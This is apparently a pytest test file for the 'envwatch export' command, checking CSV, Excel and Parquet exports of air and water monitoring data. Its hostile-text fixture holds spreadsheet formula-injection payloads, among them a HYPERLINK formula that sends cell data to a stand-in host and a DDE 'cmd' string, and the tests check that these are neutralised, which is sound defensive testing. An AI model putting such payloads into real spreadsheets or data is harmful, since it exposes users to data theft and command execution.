"""`envwatch export`: CSV, Excel (Chinese headers, units) and Parquet (by year; observations by
year and parameter, read back with DuckDB), round-tripped against the Python API."""

from __future__ import annotations

import json
import os
import sqlite3
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner, Result
from demo import Demo, demo_copy

import envwatch
from envwatch import export as export_module
from envwatch.api import COLUMNS
from envwatch.cli import main
from envwatch.errors import UsageError
from envwatch.export import export


@pytest.fixture(scope="module")
def demo(demo_store: Demo) -> Demo:
    return demo_store


def _export(demo: Demo, *args: str) -> Result:
    return CliRunner().invoke(
        main, ["--config", str(demo.config), "--db", str(demo.db), "export", *args]
    )


def test_excel_for_staff_round_trips(demo: Demo, tmp_path: Path) -> None:
    out = tmp_path / "日数据.xlsx"
    result = _export(
        demo, "--table", "air_daily", "--format", "xlsx", "--since", "2019-01-01", "--out", str(out)
    )
    assert result.exit_code == 0, result.output
    assert "air_daily: 16 rows" in result.output
    wb = openpyxl.load_workbook(out, read_only=True)
    assert wb.sheetnames == ["空气质量日数据", "说明"]
    header = next(wb["空气质量日数据"].iter_rows(max_row=1, values_only=True))
    assert header[:4] == ("站点编号", "站点名称", "区县", "日期")
    assert "PM2.5 日均 (µg/m³)" in header and "CO 日均 (mg/m³)" in header
    notes = [r for r in wb["说明"].iter_rows(values_only=True)]
    assert ("PM2.5 日均 (µg/m³)", "pm25", "µg/m³", "至少20个小时值") in notes
    wb.close()

    back = pd.read_excel(out, sheet_name=0)
    names = {c.header: c.name for c in COLUMNS["air_daily"].values()}
    back = back.rename(columns=names)
    with envwatch.open(demo.db) as ew:
        expected = ew.air_daily(start="2019-01-01")
    assert list(back.columns) == list(expected.columns)
    assert back["date"].tolist() == expected["date"].tolist()  # real Excel dates
    assert back["aqi"].astype("Int64").tolist() == expected["aqi"].tolist()
    pd.testing.assert_series_equal(back["pm25"], expected["pm25"], check_names=False)
    assert back["category"].fillna("").tolist() == [
        "" if pd.isna(c) else c for c in expected["category"]
    ]


def test_excel_times_are_local_hour_ending(demo: Demo, tmp_path: Path) -> None:
    out = tmp_path / "hours.xlsx"
    export(demo.db, "air_hourly", out, since="2019-01-01", until="2019-01-01", sites=["1236A"])
    rows = list(openpyxl.load_workbook(out).worksheets[0].iter_rows(values_only=True))
    assert rows[0][3] == "时间（本地，时段末）"
    assert [r[3].strftime("%m-%d %H:%M") for r in (rows[1], rows[-1])] == [
        "01-01 01:00",
        "01-02 00:00",
    ]
    cell = openpyxl.load_workbook(out).worksheets[0]["D2"]
    assert cell.number_format == "yyyy-mm-dd hh:mm"


def test_csv_round_trips(demo: Demo, tmp_path: Path) -> None:
    out = tmp_path / "water.csv"
    result = _export(demo, "--table", "water_samples", "--site", "梁桥", "--out", str(out))
    assert result.exit_code == 0, result.output
    assert out.read_bytes().startswith("\ufeffsite_id,".encode())  # Excel reads it as UTF-8
    back = pd.read_csv(out, encoding="utf-8-sig")
    with envwatch.open(demo.db) as ew:
        expected = ew.water_samples("梁桥")
    assert len(back) == len(expected) == 3
    assert back["nh3n"].tolist() == expected["nh3n"].tolist()
    assert pd.to_datetime(back["time_local"]).tolist() == expected["time_local"].tolist()


def test_parquet_by_year_round_trips(demo: Demo, tmp_path: Path) -> None:
    out = tmp_path / "hourly"
    result = _export(demo, "--table", "air_hourly", "--format", "parquet", "--out", str(out))
    assert result.exit_code == 0, result.output
    # the hour labelled 2019-01-01 00:00 ends 31 December: it belongs to 2018
    assert sorted(p.name for p in out.glob("year=*")) == ["year=2018", "year=2019"]
    back = pd.read_parquet(out)
    with envwatch.open(demo.db) as ew:
        expected = ew.air_hourly()
    back = back.sort_values(["site_id", "period_end"]).reset_index(drop=True)
    assert len(back) == len(expected)
    assert back["time_local"].tolist() == expected["time_local"].tolist()
    assert back["aqi"].astype("Int64").tolist() == expected["aqi"].tolist()
    assert set(back.loc[back["time_local"] == "2019-01-01 00:00", "year"].astype(int)) == {2018}
    marker = json.loads((out / "_envwatch_export.json").read_text())
    assert marker["table"] == "air_hourly" and marker["rows"] == len(expected)


def test_observations_by_year_and_parameter_read_by_duckdb(demo: Demo, tmp_path: Path) -> None:
    out = tmp_path / "obs"
    result = export(demo.db, "observations", out, "parquet", chunk_rows=1000)
    assert (out / "year=2019" / "parameter=pm25" / "part-0.parquet").exists()
    assert (out / "year=2026" / "parameter=nh3n" / "part-0.parquet").exists()
    got = duckdb.sql(
        f"SELECT parameter, count(*) AS n, sum(value) AS total FROM read_parquet("
        f"'{out}/**/*.parquet', hive_partitioning = true) GROUP BY parameter ORDER BY parameter"
    ).fetchall()
    with sqlite3.connect(demo.db) as conn:
        want = conn.execute(
            "SELECT parameter, count(*), sum(value) FROM observations GROUP BY parameter "
            "ORDER BY parameter"
        ).fetchall()
    assert [(p, n) for p, n, _ in got] == [(p, n) for p, n, _ in want]
    assert all(a == pytest.approx(b) for (_, _, a), (_, _, b) in zip(got, want, strict=True))
    assert result.rows == sum(n for _, n, _ in want)
    years = duckdb.sql(
        f"SELECT DISTINCT year FROM read_parquet('{out}/**/*.parquet', hive_partitioning = true) "
        "ORDER BY year"
    ).fetchall()
    assert years == [(2018,), (2019,), (2026,)]


def test_since_until_and_sites_filter(demo: Demo, tmp_path: Path) -> None:
    r = export(demo.db, "air_daily", tmp_path / "d.csv", since="2019-01-02", sites=["1236A"])
    back = pd.read_csv(tmp_path / "d.csv", encoding="utf-8-sig")
    assert r.rows == 1 and back[["site_id", "date"]].values.tolist() == [["1236A", "2019-01-02"]]


def test_too_big_for_excel_stops_and_leaves_no_file(
    demo: Demo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_module, "EXCEL_MAX_ROWS", 100)
    out = tmp_path / "big.xlsx"
    result = _export(demo, "--table", "air_hourly", "--out", str(out))
    assert result.exit_code == 2 and "--format parquet" in result.output
    assert list(tmp_path.iterdir()) == []


def test_parquet_replaces_an_earlier_export_but_not_other_folders(
    demo: Demo, tmp_path: Path
) -> None:
    out = tmp_path / "daily"
    export(demo.db, "air_daily", out, "parquet")
    again = export(demo.db, "air_daily", out, "parquet", since="2019-01-02")
    assert again.rows == len(pd.read_parquet(out)) == 8
    other = tmp_path / "photos"
    other.mkdir()
    (other / "a.jpg").write_bytes(b"x")
    with pytest.raises(UsageError, match="not an earlier envwatch Parquet export"):
        export(demo.db, "air_daily", other, "parquet")
    assert (other / "a.jpg").exists()


def test_format_from_the_suffix_and_unknown_tables(demo: Demo, tmp_path: Path) -> None:
    assert _export(demo, "--table", "runs", "--out", str(tmp_path / "r.xlsx")).exit_code == 0
    no_suffix = _export(demo, "--table", "runs", "--out", str(tmp_path / "r"))
    assert no_suffix.exit_code == 2 and "--format" in no_suffix.output
    unknown = _export(demo, "--table", "air", "--out", str(tmp_path / "a.csv"))
    assert unknown.exit_code == 2 and "air_hourly" in unknown.output


# -- hostile text and file permissions (issue 15, items 9 and 10) -------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, demo_store: Demo) -> Demo:
    """A copy of the demo store whose station names came from a hostile staff sheet."""
    copy = demo_copy(demo_store, tmp_path_factory.mktemp("hostile"))
    names = {
        "1236A": HOSTILE,
        "1235A": "+1+cmd|' /C calc'!A0",
        "1234A": "-2+3",
        "1237A": "@SUM(1,2)",
        "1239A": "\tHYPERLINK",
        "1240A": "-3.5",  # a plain number: left alone
    }
    with sqlite3.connect(copy.db) as conn:
        conn.executemany(
            "UPDATE sites SET name = ? WHERE site_id = ?", [(v, k) for k, v in names.items()]
        )
    return copy


def test_csv_cells_that_would_run_as_formulas_are_neutralised(
    hostile: Demo, tmp_path: Path
) -> None:
    out = tmp_path / "days.csv"
    export(hostile.db, "air_daily", out)
    back = pd.read_csv(out, encoding="utf-8-sig", dtype={"site_name": str})
    names = dict(zip(back["site_id"], back["site_name"], strict=False))
    assert names["1236A"] == "'" + HOSTILE
    assert names["1235A"] == "'+1+cmd|' /C calc'!A0"
    assert names["1234A"] == "'-2+3"
    assert names["1237A"] == "'@SUM(1,2)"
    assert names["1239A"] == "'\tHYPERLINK"
    assert names["1240A"] == "-3.5"
    assert "龙赛医院" not in names.values()
    # numbers stay numbers, negative ones too
    assert back["pm25"].dtype == "float64" and back["aqi"].notna().any()
    for line in out.read_text(encoding="utf-8-sig").splitlines()[1:]:
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "@", "\t")), line


def test_query_csv_is_neutralised_too(hostile: Demo) -> None:
    result = CliRunner().invoke(
        main,
        ["--config", str(hostile.config), "--db", str(hostile.db), "query",
         "select site_id, name, -1.5 as x from sites where site_id = '1236A'", "--format", "csv"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    row = result.output.splitlines()[1]
    assert row.startswith("1236A,\"'=HYPERLINK(") and row.endswith(",-1.5")


def test_excel_keeps_the_text_but_marks_it_as_text(hostile: Demo, tmp_path: Path) -> None:
    out = tmp_path / "days.xlsx"
    export(hostile.db, "air_daily", out, sites=["1236A", "1240A"])
    ws = openpyxl.load_workbook(out).worksheets[0]
    cells = {r[0].value: r[1] for r in ws.iter_rows(min_row=2)}
    assert cells["1236A"].value == HOSTILE and cells["1236A"].data_type == "s"
    assert cells["1236A"].quotePrefix
    assert cells["1240A"].value == "-3.5" and not cells["1240A"].quotePrefix
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)  # no formula


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_keeps_the_mode_of_the_file_it_replaces(
    demo: Demo, tmp_path: Path, fmt: str
) -> None:
    shared = tmp_path / f"shared.{fmt}"
    shared.write_text("old")
    shared.chmod(0o664)
    export(demo.db, "runs", shared)
    assert shared.stat().st_mode & 0o777 == 0o664 and shared.stat().st_size > 3
    fresh = tmp_path / f"new.{fmt}"
    old = os.umask(0o022)
    try:
        export(demo.db, "runs", fresh)
    finally:
        os.umask(old)
    assert fresh.stat().st_mode & 0o777 == 0o644
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([shared.name, fresh.name])


def test_a_parquet_folder_is_not_private(demo: Demo, tmp_path: Path) -> None:
    out = tmp_path / "runs"
    old = os.umask(0o022)
    try:
        export(demo.db, "runs", out, "parquet")
    finally:
        os.umask(old)
    assert out.stat().st_mode & 0o777 == 0o755


def test_an_export_that_cannot_be_written_says_so(demo: Demo, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="is a folder"):
        export(demo.db, "runs", tmp_path, "csv")
    (tmp_path / "afile").write_text("x")
    result = _export(demo, "--table", "runs", "--out", str(tmp_path / "afile" / "runs.csv"))
    assert result.exit_code == 2 and "cannot write the export" in result.output
    assert "Traceback" not in result.output
